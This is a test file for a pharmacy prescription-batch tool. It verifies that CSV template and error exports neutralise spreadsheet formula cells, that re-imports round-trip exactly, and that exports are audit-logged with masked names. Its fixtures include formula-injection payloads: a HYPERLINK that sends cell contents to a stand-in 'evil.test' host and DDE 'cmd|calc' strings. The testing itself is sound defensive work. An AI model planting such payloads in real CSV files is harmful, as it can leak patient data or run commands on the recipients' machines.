import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RxBatchApi } from '../../../shared/contract.js';
import { hasFormulaStart } from '../../../shared/csv-formula.js';
import type { CreateWithClinicV1Input } from '../../../shared/orders.js';
import { LOCAL_SANDBOX_ID } from '../environments/presets.js';
import { TEMPLATE_COLUMNS } from '../model/field-catalogue.js';
import { openTestCore, type TestCore } from '../testing/test-core.js';
import { HL7_PROFILE, hl7File, uniqueOrder, withField } from './testing/staging-fixtures.js';
import { exportLogText, exportText } from '../testing/export-text.js';

// Issue #12, findings 5 and 7: every CSV the app writes for a batch (the template export and the error export) is
// safe to open in a spreadsheet (no cell starts with a formula character), reads back to the same bodies, and each
// export is in the audit log with its kind and counts. Through the contract, as the app's front ends call it.
describe('batch CSV exports: formula cells neutralised, bodies kept, each export audited', () => {
  let testCore: TestCore;
  let api: RxBatchApi;

  beforeAll(async () => {
    testCore = await openTestCore('csv-exports');
    ({ api } = testCore);
  });

  afterAll(async () => {
    await testCore.close();
  });

  async function stage(name: string, content: string, profile?: string): Promise<number> {
    const imported = await api.call('import.file', {
      environmentId: LOCAL_SANDBOX_ID,
      upload: { name, content },
      ...(profile ? { profile } : {}),
    });
    if (imported.status !== 'staged') throw new Error(`${name} was not staged: ${JSON.stringify(imported)}`);
    return imported.batchId;
  }

  async function stagedOrders(batchId: number) {
    return (await api.call('batches.get', { batchId, limit: 500 })).orders;
  }

  const bodies = async (batchId: number) => (await stagedOrders(batchId)).map((order) => order.body);

  /** The cells as a spreadsheet reads the file (papaparse, the file's delimiter), those that would run as formulas. */
  function formulaCells(text: string, delimiter = ','): string[] {
    const parsed = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    return parsed.data.flat().filter(hasFormulaStart);
  }

  /**
   * The same, read as a spreadsheet in another locale reads it: split on each other separator (the fields then
   * break in other places, so quoting may look broken: a spreadsheet reads on regardless). Only a cell that starts
   * with a formula, after a TAB or line break it skips, counts.
   */
  function formulaCellsElsewhere(text: string): string[] {
    return [',', ';', '\t', '|'].flatMap((delimiter) =>
      Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter, skipEmptyLines: true })
        .data.flat()
        .filter((cell) => /^[\t\r\n]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell)),
    );
  }

  /** A value a spreadsheet would run, a phone number it would read as a negative number, and the like. */
  const hostile = fc.oneof(
    fc.constantFrom(
      '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      '=1+1\nsecond line',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      "'=kept apostrophe",
      "''-two apostrophes",
      '\uff1d1+1',
      '-12.5',
      'One tablet;=HYPERLINK(A1);four times a day',
      'One tablet,=HYPERLINK(A1),four times a day',
      'a|@SUM(1,2)',
    ),
    fc
      .tuple(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", "'=", '\uff0d', ''),
        fc.string({ unit: fc.constantFrom(...'abcXYZ0179 ,;|"\'éñ£’-/.ß漢字😀'), minLength: 1, maxLength: 12 }),
      )
      .map(([prefix, rest]) => `${prefix}${rest.trim() || 'x'}`),
  );
  const phone = fc.oneof(
    fc.integer({ min: 0, max: 999 }).map((n) => `-0161 496 0${String(n).padStart(3, '0')}`),
    fc.integer({ min: 0, max: 999 }).map((n) => `+44 7700 900${String(n).padStart(3, '0')}`),
  );

  it('template export: no cell starts a formula, and importing it gives back identical bodies (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.record({
          surname: hostile,
          firstName: hostile,
          address1: hostile,
          medication: hostile,
          dosageInstructions: hostile,
          prescriberName: hostile,
          clinicName: hostile,
          telephone: phone,
          contactNumber: phone,
          affiliateId: hostile,
        }),
        async (values) => {
          const order = uniqueOrder({}, 'FORMULA');
          let body: CreateWithClinicV1Input = withField(order, 'customer.surname', values.surname);
          body = withField(body, 'customer.firstName', values.firstName);
          body = withField(body, 'customer.telephone', values.telephone);
          body = withField(body, 'homeAddress.address1', values.address1);
          body = withField(body, 'prescribedItems.0.medication', values.medication);
          body = withField(body, 'prescribedItems.0.dosageInstructions', values.dosageInstructions);
          body = withField(body, 'prescribingDoctor.prescriberName', values.prescriberName);
          body = withField(body, 'clinicInformation.name', values.clinicName);
          body = withField(body, 'clinicInformation.contactNumber', values.contactNumber);
          body = withField(body, 'affiliateId', values.affiliateId);
          // In through JSON (no CSV writer involved), out through the template export, in again as CSV.
          const batchId = await stage('orders.json', JSON.stringify([body]));
          const original = await bodies(batchId);
          const { text } = await exportText(api, 'batches.exportTemplate', { batchId });
          expect(formulaCells(text)).toEqual([]);
          expect(formulaCellsElsewhere(text)).toEqual([]);
          const again = await stage('orders-template.csv', text);
          expect(await bodies(again)).toEqual(original);
        },
      ),
      { numRuns: Number(process.env.CSV_EXPORT_RUNS ?? 10) },
    );
  }, 120_000);

  it('error export of another system’s CSV: dangerous rows rewritten safely, others given back exactly, fixed rows re-import', async () => {
    const hostileOrder = withField(
      withField(
        withField(
          withField(uniqueOrder({}, 'ERR'), 'customer.surname', '=HYPERLINK("http://evil.test","x")'),
          'customer.telephone',
          '-0161 496 0123',
        ),
        'prescribedItems.0.dosageInstructions',
        '=1+1\nsecond line',
      ),
      'homeAddress.postCode',
      'XX',
    );
    const plainBad = withField(uniqueOrder({}, 'ERR'), 'homeAddress.postCode', 'XX');
    const good = withField(uniqueOrder({}, 'ERR'), 'customer.firstName', '@ok');
    // Written raw, as a clinic system without the OWASP escaping writes it, with a semicolon delimiter.
    const extra = { homeAddress2: '\t=2+2', clinicAddress2: "'=kept" };
    // A cell that is one cell here and three to a spreadsheet splitting on commas (most of the English-speaking world).
    const splitElsewhere = withField(
      withField(uniqueOrder({}, 'ERR'), 'prescribedItems.0.dosageInstructions', 'One tablet,=HYPERLINK(A1),twice'),
      'homeAddress.postCode',
      'XX',
    );
    const raw = Papa.unparse(
      {
        fields: [...TEMPLATE_COLUMNS],
        data: [
          templateCells(hostileOrder, extra),
          templateCells(plainBad),
          templateCells(splitElsewhere),
          templateCells(good, extra),
        ],
      },
      { delimiter: ';', newline: '\r\n', quotes: false },
    );
    expect(formulaCells(raw, ';').length).toBeGreaterThan(0); // the file itself is dangerous
    const batchId = await stage('clinic-export.csv', `${raw}\r\n`);
    const staged = await stagedOrders(batchId);
    expect(staged.map((order) => order.valid)).toEqual([false, false, false, true]);
    expect(formulaCellsElsewhere(raw).length).toBeGreaterThan(0);

    const errors = await exportText(api, 'batches.exportErrors', { batchId });
    expect(errors.orders).toBe(3);
    expect(formulaCells(errors.text, ';')).toEqual([]);
    expect(formulaCellsElsewhere(errors.text)).toEqual([]);
    const lines = errors.text.split('\r\n');
    // The header and the record without a dangerous cell are the file's own text.
    expect(lines[0]).toBe(`${raw.split('\r\n')[0]};errors`);
    expect(errors.text).toContain(
      `${raw.split('\r\n').find((line) => line.includes(plainBad.prescription.clinicOrderId))};`,
    );
    expect(errors.text).not.toContain(good.prescription.clinicOrderId);

    // Fixed in a spreadsheet (the postcodes), the `errors` column left in: the same orders, postcodes fixed.
    const fixedBatch = await stage('clinic-export-errors.csv', errors.text.replaceAll(';XX;', ';LS1 4AP;'));
    const fixed = await stagedOrders(fixedBatch);
    expect(fixed.map((order) => order.valid)).toEqual([true, true, true]);
    const withPostcode = (body: unknown) => {
      // All delivery columns blank: the delivery address is the home address, postcode and all.
      const copy = JSON.parse(JSON.stringify(body)) as Record<'homeAddress' | 'deliveryAddress', { postCode: string }>;
      copy.homeAddress.postCode = copy.deliveryAddress.postCode = 'LS1 4AP';
      return copy;
    };
    expect(fixed.map((order) => order.body)).toEqual(staged.slice(0, 3).map((order) => withPostcode(order.body)));
    // What the importer read from the raw file: trimmed, one apostrophe before a formula character taken off.
    expect(fixed[0]!.body).toMatchObject({
      customer: { surname: '=HYPERLINK("http://evil.test","x")', telephone: '-0161 496 0123' },
      homeAddress: { address2: '=2+2' },
      clinicInformation: { address2: '=kept' },
    });
  });

  it('error export of an HL7 batch: its values in our template, none starting a formula, re-importing the same', async () => {
    await api.call('profiles.save', { profile: { ...HL7_PROFILE, name: 'hl7 formulas' } });
    const order = withField(
      withField(
        withField(uniqueOrder({}, 'HL7F'), 'customer.surname', '=cmd|calc'),
        'prescribedItems.0.medication',
        '+SUM(1)',
      ),
      'homeAddress.postCode',
      'XX',
    );
    const batchId = await stage('messages.hl7', hl7File([order]), 'hl7 formulas');
    const [staged] = await stagedOrders(batchId);
    expect(staged!.valid).toBe(false);
    const errors = await exportText(api, 'batches.exportErrors', { batchId });
    expect(errors.orders).toBe(1);
    expect(formulaCells(errors.text)).toEqual([]);
    const again = await stage('messages-errors.csv', errors.text);
    expect(await bodies(again)).toEqual([staged!.body]);
  });

  it('records every export with its kind and counts, and nothing from the orders', async () => {
    const orders = [uniqueOrder({}, 'AUD'), withField(uniqueOrder({}, 'AUD'), 'customer.email', 'not-an-email')];
    orders[0]!.prescribedItems.push({ ...orders[0]!.prescribedItems[0]!, dmdCode: '10362601000001103' });
    const batchId = await stage('Wollstonecraft referral.json', JSON.stringify(orders));
    const entries = async (action: string) =>
      (await api.call('log.list', { action })).entries.filter((entry) => entry.batchId === batchId);
    expect(await entries('batch.template.exported')).toEqual([]);

    await exportText(api, 'batches.exportTemplate', { batchId });
    await exportText(api, 'batches.exportErrors', { batchId });

    const [template] = await entries('batch.template.exported');
    expect(template).toMatchObject({
      actor: 'user',
      environmentId: LOCAL_SANDBOX_ID,
      details: { format: 'csv', orderCount: 2, rowCount: 3 },
    });
    const [errors] = await entries('batch.errors.exported');
    expect(errors).toMatchObject({
      actor: 'user',
      environmentId: LOCAL_SANDBOX_ID,
      details: { format: 'csv', orderCount: 1, rowCount: 1 },
    });
    const recorded = JSON.stringify([template, errors]);
    for (const value of [orders[0]!.customer.surname, orders[1]!.prescription.clinicOrderId, 'Wollstonecraft']) {
      expect(recorded).not.toContain(value);
    }

    const log = await exportLogText(api, { format: 'jsonl' });
    const [exported] = (await api.call('log.list', { action: 'log.exported' })).entries;
    expect(exported).toMatchObject({ details: { format: 'jsonl', masked: true, rowCount: log.count } });
    // The masked export shows the imported file's name masked, its extension kept.
    expect(log.text).not.toContain('Wollstonecraft');
    expect(log.text).toContain(`"fileName":"${'*'.repeat('Wollstonecraft referral'.length)}.json"`);
  });
});

/** One order's template row, raw (no neutralising): what another system's export of the same columns holds. */
function templateCells(order: CreateWithClinicV1Input, extra: Record<string, string> = {}): string[] {
  const flat: Record<string, string | number | null | undefined> = {
    ...extra,
    clinicCode: order.clinicInformation.clinicCode,
    clinicOrderId: order.prescription.clinicOrderId,
    title: order.customer.title,
    firstName: order.customer.firstName,
    surname: order.customer.surname,
    dateOfBirth: order.customer.dateOfBirth,
    gender: order.customer.gender,
    telephone: order.customer.telephone,
    email: order.customer.email,
    homeAddress1: order.homeAddress.address1,
    homeCity: order.homeAddress.city,
    homePostCode: order.homeAddress.postCode,
    homeCountryCode: order.homeAddress.countryCode,
    paymentType: order.prescription.paymentType,
    courierCode: order.prescription.courierCode,
    currencyCode: order.prescription.currencyCode,
    prescriberRegistrationNumber: order.prescribingDoctor.registrationNumber,
    prescriberName: order.prescribingDoctor.prescriberName,
    clinicName: order.clinicInformation.name,
    clinicAddress1: order.clinicInformation.address1,
    clinicPostcode: order.clinicInformation.postcode,
    clinicCountryCode: order.clinicInformation.countryCode,
    dmdCode: order.prescribedItems[0]!.dmdCode,
    medication: order.prescribedItems[0]!.medication,
    dosageInstructions: order.prescribedItems[0]!.dosageInstructions,
    quantity: order.prescribedItems[0]!.quantity,
    pack: order.prescribedItems[0]!.pack,
  };
  return TEMPLATE_COLUMNS.map((column) => String(flat[column] ?? ''));
}
